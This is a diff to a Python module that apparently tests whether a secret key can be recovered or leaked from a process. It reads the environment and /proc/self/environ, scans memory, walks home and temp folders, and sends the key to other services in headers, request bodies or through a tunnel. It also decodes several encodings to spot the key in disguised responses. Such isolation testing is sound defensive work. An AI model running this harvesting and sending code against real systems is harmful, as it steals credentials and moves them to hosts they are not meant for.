@@ -7,15 +7,18 @@ somebody else has left it.
 from __future__ import annotations
 
 import base64
+import contextlib
 import gzip
+import itertools
 import os
-from collections.abc import Iterator, Mapping, Sequence
+import stat
+from collections.abc import Callable, Iterator, Mapping, Sequence
 from functools import partial
 from pathlib import Path
 from urllib.parse import unquote_to_bytes
 
 from .memory import SHIFT, found, guessed, mapped
-from .talk import ask_proxy, asked, connect, must_reach, proxy_credentials, connect_to_proxy, tunnel
+from .talk import asked, connect, connect_to_proxy, must_reach, proxy_credentials, tunnel
 from .way import RefusedError, Way
 
 __all__ = ["find_a_key", "have_a_key_shown", "take_a_key_elsewhere"]
@@ -30,8 +33,7 @@ def find_a_key(shifted: str, folders: Sequence[str], vault: _Place | None, varia
     """Look for a key wherever a process can look, after it was used if it may be."""
     wanted = shifted.encode()
     if vault is not None:
-        with _line_to(*_of(vault)) as line:
-            asked(line, _asking(vault, "/told/nothing", os.environ[variable]).replace(b"/told/nothing", b"/"))
+        _said(vault, _asking(vault, "/", os.environ[variable]))
     yield "in its environment", lambda: found(_environment(), wanted)
     yield "in its memory, as it is mapped", lambda: found(mapped(), wanted)
     yield "in its memory, around what it knows", lambda: found(guessed(), wanted)
@@ -49,7 +51,6 @@ def have_a_key_shown(shifted: str, vault: _Place, variable: str, ways: Sequence[
 def take_a_key_elsewhere(vault: _Place, granted: _Place, variable: str) -> Iterator[Way]:
     """Have the key put in where it is not for, or where it is kept for others to read."""
     must_reach(*_of(granted))
-    host, port = _of(granted)
     key = os.environ[variable]
     yield "another service", lambda: _said(granted, _asking(granted, "/", key))
     yield "another service, by a tunnel", lambda: _said(granted, _asking(granted, "/", key), by_tunnel=True)
@@ -61,7 +62,34 @@ def take_a_key_elsewhere(vault: _Place, granted: _Place, variable: str) -> Itera
     body = f"key={key}".encode()
     head = f"POST / HTTP/1.1\r\nHost: {{}}:{{}}\r\nContent-Length: {len(body)}\r\n\r\n".format(*vault).encode()
     yield "in its body", lambda: _said(vault, head + body)
-    yield "in a host", lambda: ask_proxy(f"{key}@{host}:{port}", by_tunnel=False)
+
+
+# -- looking ------------------------------------------------------------------------------------
+
+
+def _environment() -> Iterator[bytes]:
+    yield from (value.encode(errors="surrogateescape") for value in os.environ.values())
+    with contextlib.suppress(OSError):
+        yield Path("/proc/self/environ").read_bytes()
+
+
+def _own_folders() -> Iterator[str]:
+    yield from (os.environ[name] for name in ("HOME", "TMPDIR") if os.environ.get(name))
+    if "SSL_CERT_FILE" in os.environ:
+        yield os.path.dirname(os.environ["SSL_CERT_FILE"])
+
+
+def _files(folders: Sequence[str]) -> Iterator[bytes]:
+    """Yield what is in the files below folders, as far as they can be read; one after another, with a gap."""
+    paths = (os.path.join(top, name) for folder in folders for top, _, names in os.walk(folder) for name in names)
+    for path in itertools.islice(paths, _MAX_FILES):
+        with contextlib.suppress(OSError):
+            if stat.S_ISREG(os.stat(path).st_mode):
+                with open(path, "rb") as file:
+                    yield file.read(_MAX_FILE) + b"\0"
+
+
+# -- asking -------------------------------------------------------------------------------------
 
 
 def _of(place: _Place) -> tuple[str, int]:
@@ -69,31 +97,61 @@ def _of(place: _Place) -> tuple[str, int]:
     return str(host), int(str(port))
 
 
-def _asking(place: _Place, path: str, key: str) -> bytes:
+def _asking(place: _Place, target: str, key: str) -> bytes:
     host, port = _of(place)
-    return f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer {key}\r\n\r\n".encode()
+    return f"GET {target} HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer {key}\r\n\r\n".encode()
 
 
 def _as_page(place: _Place, path: str, key: str) -> bytes:
     host, port = _of(place)
-    asking = _asking(place, f"http://{host}:{port}{path}", key)
-    return asking.removesuffix(b"\r\n") + proxy_credentials() + b"\r\n"
+    return _asking(place, f"http://{host}:{port}{path}", key).removesuffix(b"\r\n") + proxy_credentials() + b"\r\n"
 
 
-def _line_to(host: str, port: int) -> object: ...
+def _said(place: _Place, request: bytes, *, by_tunnel: bool = False) -> bytes:
+    """Return what is answered on a connection to a place, straight if there is that way."""
+    try:
+        line = tunnel(*_of(place)) if by_tunnel else connect(*_of(place))
+    except OSError:
+        line = tunnel(*_of(place))
+    with line:
+        return asked(line, request)
+
+
+def _paged(*requests: bytes) -> bytes:
+    """Return what is answered to the last of several requests to the proxy, on one connection."""
+    with connect_to_proxy() as line:
+        answers = [asked(line, request) for request in requests]
+    return answers[-1]
 
 
 def _shown(vault: _Place, variable: str, way: str, wanted: bytes, *, as_page: bool = False) -> str:
     key = os.environ[variable]
     path = f"/told/{way}"
-    if as_page:
-        with connect_to_proxy() as line:
-            answer = asked(line, _as_page(vault, path, key))
-    else:
-        answer = _ask(vault, _asking(vault, path, key))
+    answer = _paged(_as_page(vault, path, key)) if as_page else _said(vault, _asking(vault, path, key))
     read = _READERS.get(way, bytes)(answer)
     if wanted in read.translate(SHIFT):
         return "the key"
     if key.encode() in read:
         raise RuntimeError("the key was not put in")
     raise RefusedError("ENOENT", f"it is not in {read[-60:]!r}")
+
+
+def _body(answer: bytes) -> bytes:
+    return answer.partition(b"\r\n\r\n")[2]
+
+
+def _joined(answer: bytes) -> bytes:
+    return b"".join(_body(answer).split(b"\r\n")[1::2])
+
+
+_READERS: Mapping[str, Callable[[bytes], bytes]] = {
+    "chunks": _joined,
+    "gzip": lambda answer: gzip.decompress(_body(answer)),
+    "json": lambda answer: answer.replace(b"\\/", b"/"),
+    "url": unquote_to_bytes,
+    "base64": lambda answer: base64.b64decode(_body(answer)),
+    "upper": bytes.lower,
+    "backwards": lambda answer: answer[::-1],
+    "hex": lambda answer: bytes.fromhex(_body(answer).decode()),
+    "spaced": lambda answer: _body(answer).replace(b" ", b""),
+}
